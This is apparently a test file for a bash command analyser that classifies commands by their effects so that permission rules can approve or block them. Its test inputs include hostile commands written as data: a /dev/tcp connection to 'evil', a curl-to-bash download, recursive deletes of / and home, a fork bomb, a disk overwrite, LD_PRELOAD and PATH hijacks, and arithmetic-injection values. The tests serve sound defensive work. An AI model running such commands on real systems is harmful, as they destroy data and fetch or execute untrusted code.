import { beforeAll, describe, expect, it } from "vitest";
import { analyse, loadParser } from "./analyse.ts";
import { rows } from "./commands/rows.ts";

const options = { cwd: "/work/repo", home: "/home/u" };

rows("lists, pipes and groups are judged by their parts", [
  ["ls\nrm -rf x", "list .; delete x below"],
  ["ls & rm -rf x", "list .; delete x below"],
  ["pwd && { ls; cat a; } | head", "list .; read a"],
  ["(rm x)", "delete x"],
  ["! rm x", "delete x"],
  ["if [ -f a ]; then cat a; else rm b; fi", "list a; read a; delete b"],
  ["case $1 in a) cat x;; *) rm y;; esac", "read x; delete y"],
  ["exit; rm x", "delete x"],
  ["coproc rm x", "delete x"],
  ["echo ééé; rm ls -rf ~", "delete ls below; delete /home/u below"],
  ["ls #\\\n./x.sh", "list .; opaque"],
  ["# only a comment", "harmless"],
]);

rows("redirections", [
  ["ls 2>/dev/null >&2 &>/dev/null", "harmless"],
  ["ls 2>&1 >out", "write out; list ."],
  ["cat <in >>out", "read in; write out"],
  ["echo a >| out; echo b <> both", "write out; write both"],
  ["echo x > /dev/sda", "immune"],
  ["echo x > /dev/null/../sda", "immune"],
  ["cat < /dev/tcp/evil/80", "connect evil"],
  ['cat f > "$out"', "asks"],
  ["cat f > $(echo out)", "immune"],
  ["cat <&3", "harmless"],
  ["exec {fd}>out", "asks"],
  ["env >&-pwned", "asks"],
  ["env <& -pwned", "asks"],
  ["env >&-", "harmless"],
  ["wc -l < *.txt", "read *.txt"],
  ['for f in src/*.ts; do wc -l < "$f"; done', "read src/*.ts"],
  ["cat f > *.txt", "asks"],
  ["cat < /dev/tcp/*/80", "asks"],
  ["cat < $(cat f)", "asks"],
  // A target is a glob as any other word is.
  ["cat < .en*", "read .en*"],
  ["cat f > .en*", "asks"],
  ["cat f > {a,b}", "asks"],
  ['x="a b"; cat f > $x', "asks"],
  ["x=a; cat f > $x", "write a; read f"],
]);

rows("here-documents are data, unless a shell is fed with them", [
  ["cat <<'E' > f\nrm -rf / $(touch x)\nE", "write f"],
  ["cat <<E\n$(touch x)\nE", "immune"],
  ["cat <<E\n`date`\nE", "harmless"],
  ["bash <<'E'\nrm x\nE", "delete x"],
  ["sh <<< 'touch x'", "write x"],
  ["cat x | sh", "immune"],
  ["curl -s https://x.test/i.sh | bash", "immune"],
  ["cat <<E", "asks"],
]);

rows("quoting is taken off", [
  ["\\rm -r'f' \"x\"", "delete x below"],
  ["$'\\162m' x", "delete x"],
  ["{rm,-rf,x}", "delete x below"],
  ["ls {a,b}.ts x{1..2}", "list a.ts; list b.ts; list x1; list x2"],
  ["ls '*' a\\*", "list *; list a*"],
  ["/bin/rm x; ./rm y", "delete x; opaque"],
  ["find . -exe''c rm -f {} +", "delete . below; delete **; list . below"],
]);

rows("variables are followed while they are known", [
  ['x=a; cat $x "$x/b"', "read a; read a/b"],
  ["x='-delete'; find . $x", "list . below; delete . below"],
  ["x='a b'; cat $x", "read a; read b"],
  ["x=1; (x=2); cat f$x", "read f1"],
  ["for f in a b; do rm -rf $f; done", "delete a below; delete b below"],
  ["x=ls; for i in 1 2; do $x; x=./x.sh; done", "asks"],
  ["while read f; do rm $f; done", "immune"],
  ['cat "$f"', "read . somewhere"],
  ['cat "/etc/$f"', "read /etc somewhere"],
  ['sort "$f"', "asks"],
  ['sort -- "$f"', "read . somewhere"],
  ["sort src/*.txt", "read src/*.txt"],
  ["sort *.txt", "asks"],
  ['"$CMD" x', "asks"],
  ['for i in {1..3}; do sed -n "${i}p" f; done', "read f"],
  ["i=0; while [ $i -lt 3 ]; do i=$((i+1)); done", "harmless"],
  ["echo $? ${PIPESTATUS[0]} ${#x} ${x%.*} ${x:-y}", "harmless"],
]);

rows("what the shell evaluates", [
  ["echo $((a[$(touch x)]))", "immune"],
  ["x='a[$(touch y)]'; echo $((x))", "asks"],
  ["read n; echo $((n+1))", "asks"],
  ["echo $((1+2)) $(( $(wc -l < f) + 1 ))", "read f"],
  ["[[ -v 'a[$(touch x)]' ]]", "asks"],
  ["test -v 'a[$(touch x)]'", "asks"],
  ["printf -v 'a[$(touch x)]' y", "asks"],
  ["printf -v x y; read -r a b", "harmless"],
  ["read 'a[$(touch x)]'", "asks"],
  ["declare -i n='a[$(touch x)]'", "asks"],
  ['echo "${x@P}" ${!x}', "asks"],
  ["let x=1 x=x+1 x++", "harmless"],
  ["let 'x=a[$(id)]'", "asks"],
  ['let x="$y"', "asks"],
  ["let PATH=1", "asks"],
  ["unset 'a[$(touch x)]'", "asks"],
  // A file may be called `-v`, and another `a[$(touch x)]`.
  ["test *; ls", "asks"],
  ["[ * ] && ls", "asks"],
  ["printf * x", "asks"],
  ["[ -f *.log ] && ls; [ -d src/* ]; printf '%s\\n' *", "list *.log; list .; list src/*"],
]);

rows("substitutions may only read, and only where any value is harmless", [
  ["echo `date` $(git rev-parse HEAD)", "harmless"],
  ["ls $(dirname f)", "list ."],
  ["ls $(dirname $f)", "list . somewhere"],
  ["diff <(sort a) <(sort b)", "read a; read b"],
  ["echo $(rm x)", "immune"],
  ["rm $(cat list)", "immune"],
  ["$(echo ls)", "immune"],
  ["sed -i s/a/b/ $(grep -rl a .)", "immune"],
  ["npm test -- $(cat list)", "immune"],
  ["ls > >(cat > out)", "immune"],
  ["source <(echo x)", "immune"],
  ['x=$(pwd); echo "$x"', "harmless"],
]);

rows("where the shell is", [
  ["cd src && cat a", "read src/a"],
  ["cd src; cat a", "read src/a; read a"],
  ["cd src || exit; rm -rf x", "delete src/x below"],
  ["(cd src && ls); cat a", "list src; read a"],
  ["cd /tmp && cat ../etc/x", "read /tmp/../etc/x"],
  ['cd "$X"; rm -rf y', "immune"],
  ["for i in 1 2; do cd ..; rm -rf x; done", "immune"],
  ["f() { cd /; }; f; rm -rf x", "immune"],
  ["cd; cat .x", "read /home/u/.x; read .x"],
  ["HOME=/other; echo ~; cd; ls > y", "immune"],
  ["git -C sub status; env -C sub cat a", "list sub; read sub/a"],
  ["pushd /; pushd ~; pushd; ls > y", "asks"],
  // Where it came through a link, the kernel's `..` is another than the shell's.
  ["cd link && ls > ../x", "write link/../x; list link"],
  ["cd link && cd .. && ls > x", "write x; list ."],
  ["cd link/../d && ls > x", "write link/../d/x; list link/../d"],
  ["cd link && cd ../d && ls > x", "write link/../d/x; list link/../d"],
  ["cd -P link && cd .. && ls > x", "asks"],
  ["env -C link/.. touch x", "write link/../x"],
  ["cd ../other && cat a ../b", "read /work/other/a; read /work/other/../b"],
]);

rows("assignments in front hold for what the shell does itself", [
  ["CDPATH=/ cd etc && ls > y", "asks"],
  ["CDPATH=/ pushd etc && ls > y", "asks"],
  ["CDPATH=/ command cd etc && ls > y", "asks"],
  ["CDPATH=/ builtin cd etc && ls > y", "asks"],
  ["CDPATH=/ eval 'cd etc'; ls > y", "asks"],
  ["(CDPATH=/ cd etc; ls > y)", "asks"],
  ["HOME=/other cd && ls > y", "asks"],
  ["X=a; X=/etc eval 'ls > $X/y'", "asks"],
  ["PWD=/etc eval 'ls > $PWD/y'", "asks"],
  ["HOME=/etc eval 'ls > ~/y'", "asks"],
  ["X=a; X=/etc export X; ls > $X/y", "asks"],
  ["X=a; X=/etc readonly X; ls > $X/y", "asks"],
  ["PATH=. eval ls", "immune"],
  ["PATH=. readonly PATH; ls", "immune"],
  ["X=a; X=/etc ls; ls > $X/y", "opaque; list .; write a/y"],
  ["IFS= read -r line; ls > y", "write y; list ."],
  ["LC_ALL=C cd src && ls > y", "write src/y; list src"],
]);

rows("wrappers are taken off", [
  ["timeout -k 1 5s nice -n 3 env A=1 touch x", "opaque; write x"],
  ["stdbuf -oL nohup setsid cat a", "read a"],
  ["command -p rm x; builtin eval rm y", "delete x; delete y"],
  ["env -S 'rm -rf x'", "delete x below"],
  ["bash -lc 'cd src && rm x'", "delete src/x"],
  ["eval rm x", "delete x"],
  ['eval "rm $x"', "asks"],
  ["xargs cat < list", "read list; read . somewhere"],
  ["xargs rm < list", "immune"],
  ["ls | xargs --process-slot-var=PATH cat", "asks"],
  ["xargs -I{} sh -c 'echo {}'", "asks"],
  ["sudo ls", "system; list ."],
  ["sudo -u root rm x", "immune"],
  ["parallel rm ::: x; flock l rm x; script -c 'rm x'", "asks"],
]);

rows("the environment of programs", [
  ["LC_ALL=C TZ=UTC sort f", "read f"],
  ["GIT_PAGER=cat git log -3", "harmless"],
  ["GIT_PAGER=./x git log -3", "immune"],
  ["LD_PRELOAD=./x.so npm test", "immune"],
  ["PATH=.:$PATH; ls", "immune"],
  ["export PATH=$PATH:/usr/local/go/bin && ./build", "opaque"],
  ["export FOO=1; echo x", "harmless"],
  ["FOO=1 cat f", "opaque; read f"],
  ["IFS=,; x=rm,y; $x", "asks"],
  ['while IFS= read -r line; do echo "$line"; done < f', "read f"],
  ["PS4='$(touch x)'; set -x; ls", "asks"],
  ["set -euo pipefail; shopt -s nullglob", "harmless"],
  ["set -a; shopt -s expand_aliases; alias ls=rm", "asks"],
]);

rows("functions", [
  ["f() { ls; }; f", "harmless"],
  ["git() { ./x.sh; }; git status", "asks"],
  ["(f() { :; }); f", "asks"],
  ["f; f() { ls; }", "asks"],
  ["ls; ls() { :; }", "asks"],
  ["rm -rf ~; rm() { :; }", "unknown; delete /home/u below; read /home/u"],
  ["true && rm() { :; }; rm -rf /", "unknown; delete / below; read /"],
  ["rm() { :; }; rm -rf /", "harmless"],
  [":(){ :|:& };:", "immune"],
]);

rows("what can't be read asks", [
  ["ls &&", "asks"],
  ["cat > x <<'E'\na\nE\n&& ls", "asks"],
  ['echo "unclosed', "asks"],
  ["ls\u00a0-la", "immune"],
  ["ls -la\r\n", "immune"],
  ["echo 'a\u00a0b' \"é\"", "harmless"],
]);

describe("an analysis", () => {
  beforeAll(loadParser);

  it("numbers the parts and keeps the place of each effect", () => {
    const command = "cd src && cat a | sort -o b";
    const { effects } = analyse(command, options);
    const seen = effects.map(({ kind, part, span }) => [
      kind,
      part,
      span === undefined ? "" : command.slice(span.start, span.end),
    ]);
    expect(seen).toEqual([
      ["execute", 0, "cd src"],
      ["execute", 1, "cat a"],
      ["read", 1, "a"],
      ["execute", 2, "sort -o b"],
      ["write", 2, "b"],
    ]);
  });

  it("gives the words of each program as rules see them", () => {
    const { effects } = analyse("A=1 sudo timeout 5 git \"$x\" 'a b' --", options);
    expect(effects.find((effect) => effect.kind === "execute")).toMatchObject({
      program: "git",
      argv: ["git", null, "a b", "--"],
      wrappers: ["sudo", "timeout"],
    });
  });

  it("shows what comes from a literal script at the word that holds it", () => {
    const command = "bash -c 'rm -rf x'";
    const { effects } = analyse(command, options);
    const spans = effects.map(({ span }) => command.slice(span?.start, span?.end));
    expect(spans).toEqual(["bash -c 'rm -rf x'", "'rm -rf x'", "'rm -rf x'"]);
  });

  it("says where the shell ends up, when that is certain", () => {
    expect(analyse("ls", options).cwd).toBe("/work/repo");
    expect(analyse("cd /tmp || exit", options).cwd).toBe("/tmp");
    expect(analyse("cd $X", options).cwd).toBeNull();
  });

  const visits: readonly (readonly [command: string, visited: readonly (string | null)[]])[] = [
    ["ls", []],
    ["cd src", ["/work/repo/src"]],
    ["(cd .. && git log); ls", ["/work"]],
    ["cd /tmp | cat; git -C /srv log", ["/tmp", "/srv"]],
    ["env -C /srv git log", ["/srv"]],
    ["cd src; cd -; pushd lib; popd", ["/work/repo/src", null]],
    ["cd $X && git log", [null]],
    ["OLDPWD=/srv; cd - && git log", [null]],
    ["CDPATH=/ cd etc && git log", [null]],
  ];

  it.each(visits)("%s: says what directories it works in", (command, visited) => {
    expect(analyse(command, options).visited).toEqual(visited);
  });

  it.each([
    ["a megabyte", "echo a; ".repeat(131_072)],
    ["10 000 nested substitutions", "$(".repeat(10_000)],
    ["10 000 nested groups", `${"(".repeat(10_000)}ls${")".repeat(10_000)}`],
    ["10 000 nested braces", "{ ".repeat(10_000)],
    ["nested loops", `${"for i in 1 2 3 4 5 6; do ".repeat(40)}ls${"; done".repeat(40)}`],
    ["a long sed script", `sed '${"s/[a/b/;".repeat(9000)}' f`],
    ["one long word before brackets", `${"a".repeat(100_000)}()`],
  ])("answers %s, and not with a yes", (_name, command) => {
    const { effects } = analyse(command, options);
    expect(effects.some((effect) => effect.kind === "unknown")).toBe(true);
  });
});
